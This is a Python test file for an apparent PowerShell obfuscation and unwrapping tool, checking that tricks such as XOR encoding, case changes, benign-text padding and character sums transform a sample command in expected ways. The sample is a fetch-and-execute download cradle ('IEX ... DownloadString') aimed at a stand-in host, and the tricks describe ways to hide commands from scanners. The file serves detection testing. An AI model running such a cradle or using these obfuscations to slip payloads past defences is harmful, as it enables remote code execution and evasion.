"""Commands here are made up and harmless; none is ever run."""

import random
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wheeltapper.powershell.tricks import TRICKS
from wheeltapper.powershell.unwrap import unwrap

COMMAND = (
    "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a'); $path = $env:TEMP"
)
BENIGN = ["Get-ChildItem -Path C:\\logs | Measure-Object\n" * 20, "Get-Date"]
WRAPPERS = ("letters shifted", "backwards", "hexadecimal", "exclusive or")


def tricked(name, text=COMMAND):
    return TRICKS[name](text, random.Random(1), BENIGN)


@given(st.sampled_from(list(TRICKS)), st.text(max_size=80))
def test_any_text_can_be_written_otherwise_and_alike_each_time(name, text):
    assert tricked(name, text) == tricked(name, text)


@pytest.mark.parametrize("name", [name for name in TRICKS if name != "as it came"])
def test_every_trick_changes_something(name):
    assert tricked(name) != COMMAND


def test_blanks_case_and_remarks_leave_the_words():
    words = re.sub(r"\s+|[|;=,{}]", "", COMMAND).lower()
    for name in ("case", "blanks"):
        assert re.sub(r"\s+|[|;=,{}]", "", tricked(name)).lower() == words
    bare = re.sub(r"<#.*?#>|^#.*\n", " ", tricked("remarks"))
    assert bare.split() == COMMAND.split()


def test_variables_of_the_shell_keep_their_names():
    told = tricked("names of variables")
    assert "$env:TEMP" in told
    assert "$path" not in told


def test_benign_text_stands_where_it_is_said_to():
    assert tricked("behind 1,024 benign characters").index(COMMAND) >= 1024
    assert tricked("before 4,096 benign characters").startswith(COMMAND)
    between = tricked("between twice 16,384")
    assert 16_384 <= between.index(COMMAND) <= len(between) - 16_384


@pytest.mark.parametrize("name", WRAPPERS)
def test_nothing_of_the_command_is_left_outside_and_unwrapping_does_not_find_it(name):
    assert "DownloadString" not in unwrap(tricked(name)).whole


def test_what_is_hidden_comes_back_by_the_same_sum():
    hidden = tricked("exclusive or")
    data, key = re.search(r"=([\d,]+);", hidden)[1], int(re.search(r"-bxor (\d+)", hidden)[1])
    assert bytes(int(n) ^ key for n in data.split(",")).decode() == COMMAND
    summed = re.search(r"-join\(([^&]+?\))\)", tricked("names by sums"))[1]
    pieces = re.findall(r"\((\d+)\+(\d+)\)", summed)
    assert "".join(chr(int(a) + int(b)) for a, b in pieces) == "IEX"
    junk = re.search(r"\('([^']+)' -replace '\[(.)\]\+'\)", tricked("junk in strings"))
    assert junk[1].replace(junk[2], "") == "http://files.example/a"
